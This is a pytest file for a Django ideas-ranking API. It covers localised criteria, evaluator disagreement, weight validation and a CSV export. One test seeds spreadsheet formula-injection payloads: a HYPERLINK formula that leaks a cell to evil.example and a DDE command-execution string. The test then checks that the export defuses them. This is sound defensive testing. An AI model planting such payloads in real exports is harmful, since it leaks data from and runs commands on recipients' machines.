"""``projects.apis.ranking``: the criteria, the weights, the ranked list and its CSV export."""

import csv
import io

import pytest

from projects import services
from tests.projects.apis.support import as_user, error, put
from tests.projects.factories import FULL_SCORES, IdeaFactory

pytestmark = [pytest.mark.django_db, pytest.mark.embedded]


def test_criteria_are_described_in_the_callers_language(client, owner):
    ko = as_user(client, owner).get("/api/projects/criteria/", HTTP_ACCEPT_LANGUAGE="ko").json()
    en = client.get("/api/projects/criteria/", HTTP_ACCEPT_LANGUAGE="en").json()
    assert [c["key"] for c in en][:2] == ["one_second_task", "clear_a_to_b"]
    assert en[0]["label"] == "One-second task"
    assert {c["direction"] for c in en if c["key"] in ("ethical_risk", "error_cost", "engineering_effort")} == {-1}
    assert len(ko) == len(en)


def test_the_ranking_of_a_workspace_holds_only_its_own_ideas(client, evaluator, idea, other_idea):
    body = as_user(client, evaluator).get(f"/api/projects/workspaces/{idea.workspace_id}/ranking/").json()
    assert [row["idea"]["id"] for row in body] == [idea.id]


def test_two_evaluators_disagree_and_the_ranking_says_so(client, owner, evaluator, workspace, idea):
    services.evaluation_upsert(idea=idea, user=owner, scores=FULL_SCORES)
    services.evaluation_upsert(
        idea=idea, user=evaluator, scores={**FULL_SCORES, "business_impact": 1, "pain_severity": 1, "frequency": 1}
    )
    api = as_user(client, owner)
    body = api.get(f"/api/projects/workspaces/{workspace.id}/ranking/", HTTP_ACCEPT_LANGUAGE="en").json()
    score = body[0]["idea"]["score"]
    assert body[0]["rank"] == 1
    assert score["flagged"] is True
    assert "value" in [d["key"] for d in score["disagreements"]]
    assert score["recommendations"][0]["code"] == "discuss_disagreement"
    assert "Business value" in score["recommendations"][0]["text"]
    flagged = api.get(f"/api/projects/workspaces/{workspace.id}/ranking/?flagged=1").json()
    assert len(flagged) == 1
    assert api.get(f"/api/projects/workspaces/{workspace.id}/ranking/?quadrant=drop").json() == []


def test_weights_round_trip(client, owner, workspace):
    api = as_user(client, owner)
    url = f"/api/projects/workspaces/{workspace.id}/weights/"
    before = {c["key"]: c["weight"] for c in api.get(url).json()}
    assert before["one_second_task"] == 2.0
    saved = put(api, url, {"weights": {"frequency": 4.5}})
    assert saved.status_code == 200
    assert {c["key"]: c["weight"] for c in saved.json()}["frequency"] == 4.5
    bad = put(api, url, {"weights": {"frequency": 11}}, HTTP_ACCEPT_LANGUAGE="en")
    assert bad.status_code == 400
    zero = put(
        api,
        url,
        {"weights": dict.fromkeys(["business_impact", "pain_severity", "frequency", "strategic_fit", "error_cost"], 0)},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert zero.status_code == 422
    assert error(zero)["code"] == "invalid_weights"
    assert "Business value" in error(zero)["message"]


def test_the_csv_export_is_excel_friendly_and_formula_safe(client, owner, workspace):
    hostile = IdeaFactory(
        workspace=workspace,
        user=owner,
        title='=HYPERLINK("http://evil.example/?"&A1,"click")',
        input_a="+cmd|' /C calc'!A0",
        output_b="@SUM(1+1)",
        users="-2+3",
        pain_point="\t=1+1",
    )
    services.evaluation_upsert(idea=hostile, user=owner, scores=FULL_SCORES)
    response = as_user(client, owner).get(
        f"/api/projects/workspaces/{workspace.id}/ranking.csv", HTTP_ACCEPT_LANGUAGE="ko"
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="a2blab-ideas-')
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    risky = [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []
    assert row[1].startswith("'=HYPERLINK")
    assert row[0] == "1"
    assert float(row[3]) > 50  # numbers stay numbers
    assert len(cells) == len(header)


def test_csv_headers_follow_the_language(client, owner, workspace, idea):
    api = as_user(client, owner)
    en = api.get(f"/api/projects/workspaces/{workspace.id}/ranking.csv", HTTP_ACCEPT_LANGUAGE="en")
    header = next(csv.reader(io.StringIO(en.content.decode("utf-8-sig"))))
    assert header[:3] == ["Rank", "Title", "Quadrant"]
